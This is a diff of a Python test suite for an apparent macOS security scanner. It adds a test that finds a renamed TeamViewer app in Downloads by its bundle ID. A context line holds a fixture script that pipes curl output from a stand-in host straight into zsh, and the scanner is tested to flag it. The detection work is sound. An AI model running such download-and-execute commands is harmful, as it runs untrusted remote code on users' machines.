@@ -276,3 +276,11 @@ def test_launch_agent_script_that_downloads_and_runs(benign: Path) -> None:
     write(benign, script, b"#!/bin/zsh\ncurl -fsSL https://example.invalid/m | zsh\n", 0o755)
     found = [f for f in scan(benign).findings if f.id == "SC-SCRIPT-DOWNLOAD-RUN"]
     assert found and found[0].evidence[0].path == script
+
+
+def test_app_copied_into_downloads_is_found_by_bundle_id(benign: Path) -> None:
+    # Renamed, and never moved to /Applications: recognised by what it says it is.
+    app(benign, f"{ALICE}/Downloads", "com.teamviewer.TeamViewer", "Helper")
+    found = [f for f in scan(benign).findings if f.id == "SC-TOOL-REMOTE-ACCESS"]
+    assert found and "TeamViewer" in found[0].title
+    assert any(e.path and "/Downloads/Helper.app" in e.path for e in found[0].evidence)
